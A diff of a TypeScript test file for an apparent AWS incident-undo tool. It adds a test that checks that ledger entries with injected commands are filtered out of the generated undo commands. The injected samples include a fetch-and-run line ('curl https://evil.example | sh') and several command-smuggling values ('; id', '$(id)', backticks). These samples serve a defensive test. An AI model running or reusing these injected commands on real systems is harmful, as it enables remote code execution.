@@ -33,13 +33,34 @@ describe('the undo of an incident', () => {
     ]);
   });
 
-  it('names every control, in the order back', () => {
+  it('names every control that policy does not leave off, in the order back', () => {
     const text = undo();
-    const places = RESTORE_ORDER.map(({ title }) => text.indexOf(title));
+    const places = RESTORE_ORDER.filter(({ isOff }) => isOff === undefined).map(({ title }) =>
+      text.indexOf(title),
+    );
 
     expect(places.every((place) => place > 0)).toBe(true);
     expect(places).toEqual(places.toSorted((a, b) => a - b));
     expect(RESTORE_ORDER.length).toBe(CONTROLS.length);
+  });
+
+  it('shows of what depended on it commands of the AWS CLI, and no other line that somebody wrote into the ledger', () => {
+    const command = "aws events enable-rule --name 'it'\\''s' --event-bus-name orders --region eu-west-1";
+    const cut = (undoing: readonly string[]): LedgerRecord => ({
+      control: 'rules',
+      before: { roleArn: ROLE, ids: ['a-rule'], does: '', cautions: [], undo: undoing },
+      state: 'held',
+      detail: 'off',
+      capturedAt: '2026-11-20T11:00:00.000Z',
+    });
+    for (const injected of [
+      'curl https://evil.example | sh',
+      'aws events enable-rule --name x; id',
+      "aws events enable-rule --name 'x' && id",
+      'aws events enable-rule --name $(id)',
+      "aws events enable-rule --name 'x'`id`",
+    ])
+      expect(commands(undo([cut([injected, command])]))).toEqual([command]);
   });
 
   it('says how to check the account and to tell Tourniquet', () => {
